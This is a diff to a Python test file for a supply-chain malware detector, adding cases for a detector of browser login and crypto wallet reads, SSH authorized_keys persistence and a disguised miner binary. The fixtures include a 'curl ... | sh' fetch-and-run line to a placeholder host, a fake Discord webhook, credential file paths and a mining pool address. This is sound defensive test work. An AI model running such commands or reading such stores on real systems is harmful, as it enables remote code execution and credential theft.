@@ -31,6 +31,7 @@ from lazaretto.detectors import (
     persistence_added,
     provenance_changed,
     self_deletion,
+    stores_read,
     wallet_touched,
 )
 from tests.detectors.updates import edge, fact, release, update, view
@@ -40,6 +41,7 @@ NOTHING = view({FILE: "old"})
 WEBHOOK = "https://discord.com.invalid/api/webhooks/1"
 PIPE = "curl https://drop.invalid/x | sh"
 CALL = Moment.CALL
+LOGINS = fact(Kind.FS_READ, "%LOCALAPPDATA%\\x\\Login Data")
 
 
 def one(*facts: Fact, reach: Reach = Reach.IMPORT, path: str = FILE, flow: str | None = None) -> ArtifactView:
@@ -86,6 +88,17 @@ TABLE = [
     (persistence_added, NOTHING, one(PERSIST, path="README.md"), []),
     (persistence_added, None, one(PERSIST), ["first-contact"]),
     (persistence_added, None, one(PERSIST, reach=Reach.CALL), []),
+    (persistence_added, None, one(fact(Kind.PERSIST, "/home/*/.ssh/authorized_keys")), ["first-contact-login"]),
+    (stores_read, NOTHING, one(LOGINS), ["autorun"]),
+    (stores_read, NOTHING, one(LOGINS, reach=Reach.CALL), []),
+    (stores_read, NOTHING, one(LOGINS, path="README.md"), []),
+    (stores_read, NOTHING, one(fact(Kind.WALLET_TOUCH, "~/.bitcoin/wallet.dat")), []),
+    (stores_read, known(LOGINS, reach=Reach.IMPORT), one(LOGINS, LOGINS), []),
+    (stores_read, None, one(LOGINS), ["first-contact"]),
+    (stores_read, None, one(fact(Kind.WALLET_TOUCH, "~/.bitcoin/wallet.dat")), ["first-contact"]),
+    (stores_read, None, one(fact(Kind.WALLET_TOUCH, "ethereum")), []),
+    (stores_read, None, one(fact(Kind.FS_READ, "x/Login Database")), []),
+    (stores_read, None, one(fact(Kind.FS_READ, None)), []),
     (module_hook_added, NOTHING, one(MODULE), ["autorun"]),
     (module_hook_added, known(fact(Kind.MODULE_HOOK, "fs.open"), reach=Reach.IMPORT), one(MODULE), []),
     (module_hook_added, None, one(MODULE), []),
@@ -286,3 +299,22 @@ def test_a_server_that_was_there_is_no_news() -> None:
     assert variants(commands_served, NOTHING, one(server, fact(Kind.PROCESS_SPAWN, "git status"))) == []
     assert variants(commands_served, NOTHING, one(server, order, reach=Reach.CALL)) == []
     assert variants(commands_served, NOTHING, one(server, order, path="tests/a.js")) == []
+
+
+MINER = fact(Kind.NET_CONNECT, "stratum+tcp://pool.invalid:3333")
+
+
+@pytest.mark.parametrize(
+    ("miner", "command", "expected"),
+    [
+        ((fact(Kind.BINARY, "elf"), MINER), "chmod a+x ./bin/gcc && ./bin/gcc", "first-contact-carried"),
+        ((fact(Kind.BINARY, "elf"), MINER), "./bin/other", "first-contact"),
+        ((MINER,), "./bin/gcc", "first-contact"),
+    ],
+)
+def test_a_miner_that_a_release_carries(miner: tuple[Fact, ...], command: str, expected: str) -> None:
+    """A program with a miner's words in it weighs more where the release starts it, whatever it is called."""
+    started = fact(Kind.PROCESS_SPAWN, command)
+    after = view({FILE: "new", "bin/gcc": "x"}, {FILE: (started,), "bin/gcc": miner}, {FILE: Reach.CALL})
+
+    assert variants(miner_started, None, after) == [expected]
